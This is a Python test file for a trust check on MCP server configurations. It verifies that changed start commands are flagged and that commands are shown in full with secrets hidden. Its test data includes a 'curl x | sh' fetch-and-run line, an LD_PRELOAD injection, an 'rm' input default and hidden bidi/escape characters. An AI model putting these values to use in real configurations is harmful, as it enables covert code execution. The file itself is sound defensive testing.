"""Trust in files of servers: by hash, kept in the user's folder, and what is shown before."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from questline.errors import RunError, UsageError
from questline.mcp_servers.gateway.configuration import Configuration
from questline.mcp_servers.gateway.trust import Trust, started_by, trust_file

STDIO = {"command": "sh", "args": ["-c", "serve"], "env": {"PORT": "1"}}
HTTP = {"url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": "Bearer one"}}


def written(folder: Path, entries: dict[str, Any], **beside: Any) -> Configuration:
    file = folder / "mcp.json"
    file.write_text(json.dumps({"mcpServers": entries, **beside}), "utf-8")
    return Configuration.read(file)


@pytest.fixture
def trust(tmp_path: Path) -> Trust:
    return Trust(tmp_path / "state" / "trusted.json")


def kinds(trust: Trust, configuration: Configuration) -> dict[str, str]:
    return {each.server.name: each.kind for each in trust.unknown(configuration)}


@pytest.mark.requirement("mends.trust")
def test_what_was_agreed_to_is_remembered_as_it_was(tmp_path: Path, trust: Trust) -> None:
    before = written(tmp_path, {"a": STDIO, "b": HTTP})
    assert kinds(trust, before) == {"a": "new", "b": "new"}
    trust.accept(before)
    again = Trust(tmp_path / "state" / "trusted.json")
    assert kinds(again, written(tmp_path, {"a": STDIO, "b": HTTP})) == {}
    assert kinds(again, written(tmp_path, {"a": STDIO, "c": STDIO})) == {"c": "new"}
    assert again.forget(before)
    assert not again.forget(before)
    assert kinds(again, before) == {"a": "new", "b": "new"}


@pytest.mark.requirement("mends.trust")
@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("a", {"command": "bash"}),
        ("a", {"args": ["-c", "other"]}),
        ("a", {"env": {"PORT": "2"}}),
        ("a", {"env": {"PORT": "1", "LD_PRELOAD": "x.so"}}),
        ("a", {"cwd": "elsewhere"}),
        ("b", {"url": "http://127.0.0.1:8/mcp"}),
        ("b", {"headers": {"Authorization": "Bearer two"}}),
        ("b", {"questline": {"bearer": "three"}, "headers": {}}),
    ],
)
def test_a_changed_start_is_unknown_again(tmp_path: Path, trust: Trust, name: str, change: dict[str, Any]) -> None:
    entries = {"a": STDIO, "b": HTTP}
    trust.accept(written(tmp_path, entries))
    assert kinds(trust, written(tmp_path, {**entries, name: {**entries[name], **change}})) == {name: "changed"}


@pytest.mark.requirement("mends.trust")
def test_how_a_server_is_used_does_not_count_and_switching_one_on_does(tmp_path: Path, trust: Trust) -> None:
    trust.accept(written(tmp_path, {"a": STDIO, "off": {**HTTP, "disabled": True}}))
    used = {**STDIO, "questline": {"call_s": 3, "deny": ["*"]}, "autoApprove": ["x"]}
    assert kinds(trust, written(tmp_path, {"a": used, "off": HTTP}, theme="dark")) == {"off": "new"}


@pytest.mark.requirement("mends.trust")
def test_a_default_of_an_input_is_a_part_of_what_is_started(tmp_path: Path, trust: Trust) -> None:
    entry = {"command": "${input:program}"}
    trust.accept(written(tmp_path, {"a": entry}, inputs=[{"id": "program", "default": "true"}]))
    assert kinds(trust, written(tmp_path, {"a": entry}, inputs=[{"id": "program", "default": "true"}])) == {}
    other = written(tmp_path, {"a": entry}, inputs=[{"id": "program", "default": "rm"}])
    assert kinds(trust, other) == {"a": "changed"}
    assert "where the input program is rm" in started_by(other.servers["a"])


@pytest.mark.requirement("mends.trust")
def test_the_same_words_in_another_folder_are_another_file(tmp_path: Path, trust: Trust) -> None:
    trust.accept(written(tmp_path, {"a": STDIO}))
    (tmp_path / "copy").mkdir()
    assert kinds(trust, written(tmp_path / "copy", {"a": STDIO})) == {"a": "new"}


@pytest.mark.requirement("mends.trust")
def test_the_values_of_variables_do_not_count_and_a_server_that_lacks_one_does(tmp_path: Path, trust: Trust) -> None:
    entry = {**STDIO, "env": {"A": "${NOT_SET_ANYWHERE}"}}
    trust.accept(written(tmp_path, {"a": entry}))
    later = Configuration.read(tmp_path / "mcp.json", environ={"NOT_SET_ANYWHERE": "x"})
    assert later.servers["a"].problem is None
    assert kinds(trust, later) == {}


@pytest.mark.requirement("mends.trust")
def test_it_is_kept_in_the_users_folder_for_the_user_alone(tmp_path: Path, trust: Trust) -> None:
    trust.accept(written(tmp_path, {"a": STDIO}))
    file = tmp_path / "state" / "trusted.json"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mcp.json", "state"]
    assert "Bearer" not in file.read_text("utf-8")
    assert trust_file({"XDG_STATE_HOME": str(tmp_path)}) == tmp_path / "questline" / "trusted.json"
    for other in ({}, {"XDG_STATE_HOME": "relative"}):
        assert trust_file(other) == Path.home() / ".local" / "state" / "questline" / "trusted.json"


@pytest.mark.requirement("mends.trust")
@pytest.mark.parametrize("text", ["", "[]", '{"version": 2, "files": {}}', '{"version": 1, "files": {"a": {"b": 1}}}'])
def test_a_damaged_file_trusts_nothing_and_says_so(tmp_path: Path, trust: Trust, text: str) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "trusted.json").write_text(text)
    configuration = written(tmp_path, {"a": STDIO})
    for look in (trust.unknown, trust.accept):
        with pytest.raises(UsageError) as caught:
            look(configuration)
        assert caught.value.code == "bad_config"
    assert (tmp_path / "state" / "trusted.json").read_text() == text


@pytest.mark.requirement("mends.trust")
def test_what_cannot_be_remembered_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(RunError) as caught:
        Trust(tmp_path / "file" / "trusted.json").accept(written(tmp_path, {"a": STDIO}))
    assert caught.value.code == "read_only"


@pytest.mark.requirement("mends.trust-shown")
def test_the_whole_command_is_shown_without_secrets(tmp_path: Path) -> None:
    entry = {
        "command": "sh",
        "args": ["-c", "curl x | sh; echo \x1b[31m\u202e hidden", "${HOME}"],
        "env": {"API_KEY": "secret-word", "LD_PRELOAD": "./x.so"},
        "cwd": "sub dir",
    }
    web = {"url": "https://user:secret@h.example/mcp?k=secret", "headers": {"X-Key": "secret"}}
    servers = written(tmp_path, {"a": entry, "web": web}).servers
    assert started_by(servers["a"]) == [
        "sh -c 'curl x | sh; echo \\x1b[31m\\u202e hidden' '${HOME}'",
        f"in '{tmp_path}/sub dir'",
        "with LD_PRELOAD=./x.so",
        "with API_KEY (its value is not shown)",
    ]
    assert started_by(servers["web"]) == ["https://h.example/mcp", "sends X-Key"]


@pytest.mark.requirement("mends.trust-shown")
@given(
    entry=st.fixed_dictionaries(
        {},
        optional={
            "command": st.one_of(st.text(max_size=8), st.integers(), st.none()),
            "args": st.one_of(st.lists(st.one_of(st.text(max_size=8), st.integers()), max_size=3), st.text(max_size=3)),
            "env": st.one_of(st.dictionaries(st.text(max_size=4), st.text(max_size=8), max_size=2), st.none()),
            "cwd": st.one_of(st.text(max_size=4), st.booleans()),
            "url": st.one_of(st.text(max_size=12), st.integers()),
            "headers": st.one_of(st.dictionaries(st.text(max_size=4), st.text(max_size=4), max_size=2), st.text()),
        },
    )
)
def test_any_entry_can_be_shown_and_each_of_its_lines_is_one_line_of_print(entry: dict[str, Any]) -> None:
    text = json.dumps({"mcpServers": {"a": entry}})
    lines = started_by(Configuration.parse(text, source=Path("mcp.json")).servers["a"])
    assert lines
    assert all(line.isprintable() for line in lines)


@pytest.mark.requirement("graphs2.own-folder")
def test_a_file_reached_by_another_way_is_the_same_and_one_that_is_linked_elsewhere_is_not(
    tmp_path: Path, trust: Trust
) -> None:
    entries = {"a": {"command": "./serve", "args": ["serve.py"], "cwd": "sub"}}
    (tmp_path / "real").mkdir()
    trust.accept(written(tmp_path / "real", entries))
    (tmp_path / "way").symlink_to("real")
    same = Configuration.read(tmp_path / "way" / "mcp.json")
    assert kinds(trust, same) == {}
    assert (same.servers["a"].command, same.servers["a"].cwd) == (
        str(tmp_path / "real/sub/serve"),
        tmp_path / "real/sub",
    )
    assert started_by(same.servers["a"])[1] == f"in {tmp_path}/real/sub"
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / "mcp.json").symlink_to(tmp_path / "real" / "mcp.json")
    assert kinds(trust, Configuration.read(tmp_path / "linked" / "mcp.json")) == {"a": "changed"}
